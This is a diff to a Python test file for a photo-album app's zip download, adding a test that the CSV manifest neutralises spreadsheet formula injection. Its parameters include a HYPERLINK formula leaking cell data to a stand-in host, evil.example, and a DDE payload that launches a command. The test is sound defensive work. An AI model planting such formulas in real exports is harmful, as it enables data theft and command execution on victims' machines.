@@ -255,9 +255,26 @@ def test_the_owner_downloads_a_zip_of_originals_with_a_manifest(client, owner, a
     assert archive.read(names[1]) == b"second-bytes" * 100_000
     rows = list(csv.reader(io.StringIO(archive.read("sunset/manifest.csv").decode())))
     assert rows[0] == ["file", "author", "author_name", "post", "likes", "posted_at", "added_at", "alt_text"]
-    assert [row[1] for row in rows[1:]] == ["@ana", "@bo"]
+    assert [row[1] for row in rows[1:]] == ["ana", "bo"]
     assert rows[1][3] == first.permalink and rows[2][3] == second.permalink
     assert rows[1][4] == "3"
+
+
+@pytest.mark.parametrize(
+    "payload",
+    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"],
+)
+def test_the_manifest_cannot_carry_a_spreadsheet_formula(client, owner, album, payload):
+    make_picture(album=album, author_name=payload, alt_text=payload, original_key="originals/aa/one.jpg")
+    store("originals/aa/one.jpg", b"first-bytes")
+    client.force_login(owner)
+    archive = zipfile.ZipFile(io.BytesIO(b"".join(client.get("/album/sunset/download.zip").streaming_content)))
+    text = archive.read("sunset/manifest.csv").decode()
+    [header, row] = list(csv.reader(io.StringIO(text)))
+    assert row[header.index("author_name")] == "'" + payload
+    assert row[header.index("alt_text")] == "'" + payload
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+    assert text.startswith('"file","author",')  # every cell quoted
 
 
 def test_only_the_owner_and_staff_may_download(client, album, other, staff):
